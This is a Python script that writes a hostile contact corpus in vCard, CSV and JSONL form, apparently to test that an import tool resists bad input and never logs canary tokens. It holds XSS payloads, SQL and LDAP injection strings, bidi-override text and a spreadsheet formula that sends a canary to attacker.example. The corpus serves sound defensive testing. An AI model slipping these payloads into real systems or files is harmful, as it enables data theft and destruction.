#!/usr/bin/env python3
"""Writes the hostile corpus (hostile.vcf, hostile.csv, hostile.jsonl) beside this script, deterministically.

Every contact carries one hostile value (or shape) and a canary: a token that must never reach a log line, and that
HostileCorpusTest looks for in what the run prints. Run it again after changing it; the files are committed."""
import json, os

here = os.path.dirname(os.path.abspath(__file__))
MIB = 1024 * 1024

def payloads(canary):
    return [
        ("control", f"Ann\x00\x07\x1be {canary}"),
        ("bidi-override", f"\u202eevil\u202c {canary}"),
        ("bidi-isolate", f"\u2066x\u2069 {canary}"),
        ("zero-width", f"Ali\u200bce\ufeff {canary}"),
        ("html", f"<b>bold</b> {canary}"),
        ("script", f"<script>alert('{canary}')</script>Eve"),
        ("style", f"<style>*{{x:1}}</style><img src=x onerror=alert(1)>{canary}"),
        ("formula-equals", f'=HYPERLINK("http://attacker.example/{canary}")'),
        ("formula-plus", f"+SUM(1,2) {canary}"),
        ("formula-minus", f"-2+3 {canary}"),
        ("formula-at", f"@cmd {canary}"),
        ("formula-tab", f"\t=1+1 {canary}"),
        ("sql", f"Robert'); DROP TABLE contacts;-- {canary}"),
        ("ldap", f"*)(uid=*))(|(uid=* {canary}"),
        ("ldap-dn", f"cn=admin,dc=example,dc=com\\2C {canary}"),
        ("nfd", f"Ame\u0301lie {canary}"),
        ("rtl", f"\u0645\u0631\u062d\u0628\u0627 {canary}"),
        ("emoji", f"\U0001F600\U0001F3F3\uFE0F\u200D\U0001F308 {canary}"),
        ("overlong", "A" * MIB + canary),
        ("newlines", f"one\r\ntwo\rthree\n{canary}"),
    ]

FIELDS = ["formattedName", "organization", "title", "notes", "name.given"]
BAD_EMAILS = ["not-an-email", "a@b", "a@@example.com", "<script>@example.com", "a b@example.com", "@example.com",
              "x@example..com", "x@-example.com", "\u202e@example.com", "a" * 300 + "@example.com"]
BAD_PHONES = ["555", "+1 (555) 0000000000000", "tel:+1-202-555-0101;ext=1", "+44 20 7946 0958 ext 12", "1-800-FLOWERS",
              "\u0661\u0662\u0663\u0664\u0665\u0666\u0667\u0668\u0669\u0660", "+0 123 456", "=1+1", "++1 202 555 0101",
              "00000000000000000000000000000000000000000000000000000000000000000000"]

def contacts(fmt):
    out = []
    n = 0
    def add(contact, kind):
        nonlocal n
        n += 1
        contact.setdefault("id", f"h-{fmt}-{n:03d}")
        contact.setdefault("formattedName", f"Hostile {n}")
        out.append((kind, contact))
    for i, field in enumerate(FIELDS):
        for j in range(len(payloads(""))):
            kind, value = payloads(f"CANARY-{fmt}-{i}-{j:02d}")[j]
            if kind == "overlong" and field != "notes":
                continue  # one 1 MiB value per format keeps the corpus small
            c = {}
            if field == "name.given":
                c["name"] = {"given": value, "family": "Example"}
            else:
                c[field] = value
            add(c, f"{kind} in {field}")
    for i, email in enumerate(BAD_EMAILS):
        add({"emails": [{"type": "work", "value": email}]}, "bad email")
    for i, phone in enumerate(BAD_PHONES):
        add({"phones": [{"type": "mobile", "value": phone}]}, "bad phone")
    add({"id": f"h-{fmt}-dup", "formattedName": "First of a duplicate pair"}, "duplicate id")
    add({"id": f"h-{fmt}-dup", "formattedName": "Second of a duplicate pair"}, "duplicate id")
    add({"id": "", "formattedName": "Empty id"}, "missing id")
    add({"id": "   ", "formattedName": "Blank id"}, "missing id")
    return out

def vcard_escape(v):
    return v.replace("\\", "\\\\").replace(",", "\\,").replace(";", "\\;").replace("\r\n", "\\n").replace("\n", "\\n").replace("\r", "\\n")

def fold(line, width=75):
    data = line.encode("utf-8")
    parts, cur = [], b""
    for ch in line:
        b = ch.encode("utf-8")
        if len(cur) + len(b) > width:
            parts.append(cur); cur = b" "
        cur += b
    parts.append(cur)
    return b"\r\n".join(parts)

def write_vcf():
    with open(os.path.join(here, "hostile.vcf"), "wb") as f:
        for kind, c in contacts("vcf"):
            lines = ["BEGIN:VCARD", "VERSION:4.0"]
            if c["id"].strip():
                lines.append("UID:" + c["id"])
            name = c.get("name", {})
            lines.append("FN:" + vcard_escape(c.get("formattedName", "x")))
            lines.append("N:" + vcard_escape(name.get("family", "")) + ";" + vcard_escape(name.get("given", "")) + ";;;")
            for key, prop in (("organization", "ORG"), ("title", "TITLE"), ("notes", "NOTE")):
                if key in c: lines.append(prop + ":" + vcard_escape(c[key]))
            for e in c.get("emails", []): lines.append("EMAIL;TYPE=work:" + vcard_escape(e["value"]))
            for p in c.get("phones", []): lines.append("TEL;TYPE=cell:" + vcard_escape(p["value"]))
            lines.append("END:VCARD")
            f.write(b"\r\n".join(fold(l) for l in lines) + b"\r\n")
        # shapes only a file can have: deep folding, invalid UTF-8, a card that never ends
        deep = b"NOTE:" + b"\r\n x".join([b"CANARY-vcf-deepfold"] * 10000)
        f.write(b"BEGIN:VCARD\r\nVERSION:4.0\r\nUID:h-vcf-deepfold\r\nFN:Deeply folded\r\n" + deep + b"\r\nEND:VCARD\r\n")
        f.write(b"BEGIN:VCARD\r\nVERSION:4.0\r\nUID:h-vcf-badutf8\r\nFN:Bad \xc3\x28 UTF-8 \xff\xfe CANARY-vcf-badutf8\r\nEND:VCARD\r\n")
        f.write(b"BEGIN:VCARD\r\nVERSION:3.0\r\nUID:h-vcf-v3\r\nFN:Version three\r\nX-INJECT:BEGIN:VCARD\r\nEND:VCARD\r\n")
        f.write(b"BEGIN:VCARD\r\nVERSION:4.0\r\nUID:h-vcf-unterminated\r\nFN:Never ends CANARY-vcf-unterminated\r\n")

CSV_COLUMNS = ["id", "name.given", "name.family", "formattedName", "emails[0].value", "phones[0].value", "organization", "title", "notes"]

def csv_quote(v):
    return '"' + v.replace('"', '""') + '"'

def write_csv():
    with open(os.path.join(here, "hostile.csv"), "wb") as f:
        f.write((",".join(CSV_COLUMNS) + "\r\n").encode())
        for kind, c in contacts("csv"):
            name = c.get("name", {})
            row = {"id": c["id"], "name.given": name.get("given", ""), "name.family": name.get("family", ""),
                   "formattedName": c.get("formattedName", ""), "organization": c.get("organization", ""),
                   "title": c.get("title", ""), "notes": c.get("notes", ""),
                   "emails[0].value": (c.get("emails") or [{"value": ""}])[0]["value"],
                   "phones[0].value": (c.get("phones") or [{"value": ""}])[0]["value"]}
            f.write((",".join(csv_quote(row[k]) for k in CSV_COLUMNS) + "\r\n").encode("utf-8", "surrogatepass"))
        f.write(b'"h-csv-badutf8","Bad \xc3\x28","x","CANARY-csv-badutf8 \xff","","","","",""\r\n')
        f.write(b'"h-csv-extra","a","b","Extra columns","","","","","","surplus","CANARY-csv-extra"\r\n')
        f.write(b'"h-csv-short","Short row"\r\n')
    # a quote left open swallows the rest of the file: the run must fail and commit nothing (a sweep would delete
    # every record after it)
    with open(os.path.join(here, "hostile-unclosed-quote.csv"), "wb") as f:
        f.write((",".join(CSV_COLUMNS) + "\r\n").encode())
        f.write(b'"h-csv-ok","Fine","Row","Fine Row","","","","",""\r\n')
        f.write(b'"h-csv-unbalanced","Unbalanced ""quote,"x","CANARY-csv-unbalanced\r\n')
        f.write(b'"h-csv-after","After","Row","CANARY-csv-after","","","","",""\r\n')

def write_jsonl():
    with open(os.path.join(here, "hostile.jsonl"), "wb") as f:
        for kind, c in contacts("jsonl"):
            f.write(json.dumps(c, ensure_ascii=False).encode("utf-8") + b"\n")
        f.write(b'{"id":"h-jsonl-badutf8","formattedName":"Bad \xc3\x28 CANARY-jsonl-badutf8"}\n')
        f.write(b'{"id":"h-jsonl-surrogate","formattedName":"x\\ud800y CANARY-jsonl-surrogate"}\n')
        f.write(b'{"id":"h-jsonl-truncated","formattedName":"CANARY-jsonl-truncated"\n')
        f.write(b'{"id":"h-jsonl-types","emails":"CANARY-jsonl-types","phones":42}\n')
        f.write(b'{"id":"h-jsonl-deep","custom":{"x":' + b'[' * 2000 + b']' * 2000 + b'},"notes":"CANARY-jsonl-deep"}\n')
        f.write(b'{"id":"h-jsonl-number","formattedName":1e99999,"notes":"CANARY-jsonl-number"}\n')
        f.write(b'["not","an","object","CANARY-jsonl-array"]\n')
        f.write(b'\n')

if __name__ == "__main__":
    write_vcf(); write_csv(); write_jsonl()
